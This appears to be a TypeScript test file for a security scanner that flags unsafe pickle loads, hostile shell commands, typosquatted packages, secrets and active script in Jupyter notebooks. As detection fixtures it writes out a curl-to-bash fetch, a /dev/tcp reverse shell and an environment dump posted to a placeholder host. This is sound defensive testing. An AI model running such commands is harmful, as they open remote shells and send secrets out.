import { expect, it } from 'vitest';
import { alarms, rulesOf, scanText } from '../testing/workspace.ts';

type Cell = string | { markdown: string } | { code: string; output: unknown };
const notebook = (...cells: Cell[]): string =>
  JSON.stringify({
    cells: cells.map((cell) => {
      if (typeof cell === 'string') return { cell_type: 'code', source: cell.split(/(?<=\n)/), outputs: [] };
      if ('markdown' in cell) return { cell_type: 'markdown', source: [cell.markdown] };
      return { cell_type: 'code', source: cell.code, outputs: [cell.output] };
    }),
    metadata: { kernelspec: { language: 'python', name: 'python3' } },
    nbformat: 4,
    nbformat_minor: 5,
  });

it('reads cells as one program, and says which cell is meant', () => {
  const report = scanText(
    'x.ipynb',
    notebook('import pickle as p', { markdown: '# Loading' }, '%matplotlib inline\n\nm = p.load(f)'),
  );
  expect(report.format).toBe('notebook');
  expect(report.findings).toMatchObject([
    { rule: 'python.unsafe-load', line: 3, message: expect.stringMatching(/^cell 3: pickle\.load/) as string },
  ]);
  // What one cell leaves open is not that of the next.
  expect(rulesOf('x.ipynb', notebook('x = """', 'import pickle\npickle.load(f)'))).toEqual(['python.unsafe-load']);
});

it('is known by its content', () => {
  expect(scanText('readme', notebook('print(1)')).format).toBe('notebook');
  expect(scanText('x.json', '{"cells": 3}').format).not.toBe('notebook');
});

it('reads the shell in it', () => {
  expect(alarms('x.ipynb', notebook('!curl http://example.invalid/x | bash'))).toEqual([
    'medium notebook.hostile-command',
  ]);
  expect(alarms('x.ipynb', notebook('%%bash\nls\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1'))).toEqual([
    'critical notebook.hostile-command',
  ]);
  expect(alarms('x.ipynb', notebook('files = !env | curl -d @- http://example.invalid'))).toEqual([
    'high notebook.hostile-command',
  ]);
  expect(alarms('x.ipynb', notebook('%run https://example.invalid/x.py'))).toEqual(['medium notebook.remote-code']);
  expect(alarms('x.ipynb', notebook('!pip install -q tramsformers torch'))).toEqual(['medium packages.look-alike']);
  const ordinary = notebook(
    '!pip install -q transformers==4.44.0 accelerate\n!nvidia-smi',
    '!curl -fsSL https://ollama.com/install.sh | sh',
    '%%time\nmodel.fit(x)',
    '%timeit -n 3 f()\n?f\nf??',
    'a, b = 1, 2\nif a != b: !ls',
    '%%html\n<script>1</script>',
  );
  expect(alarms('x.ipynb', ordinary)).toEqual([]);
  expect(rulesOf('x.ipynb', ordinary)).toEqual(expect.arrayContaining(['notebook.command']));
});

it('finds secrets in cells and saved outputs, and script in outputs', () => {
  const key = ['sk-a', 'nt-api03-', 'n0tAreAlkey-'.repeat(7), 'n0tAreAAA'].join('');
  const report = scanText(
    'x.ipynb',
    notebook(
      `KEY = "${key}"`,
      { code: 'print(KEY)', output: { output_type: 'stream', text: [`${key}\n`] } },
      {
        code: 'show()',
        output: { output_type: 'display_data', data: { 'application/javascript': 'x()', 'image/png': 'aaaa' } },
      },
    ),
  );
  expect(report.findings.map(({ rule, message }) => [rule, message.slice(0, 6)])).toEqual([
    ['workspace.secret', 'cell 1'],
    ['notebook.secret-in-output', 'the ou'],
    ['notebook.active-output', 'the ou'],
  ]);
  expect(JSON.stringify(report)).not.toContain(key);
});

it('is unanalyzed where it is broken', () => {
  expect(scanText('x.ipynb', '{"cells": [{"cell_type": "code"').verdict).toBe('unanalyzed');
});
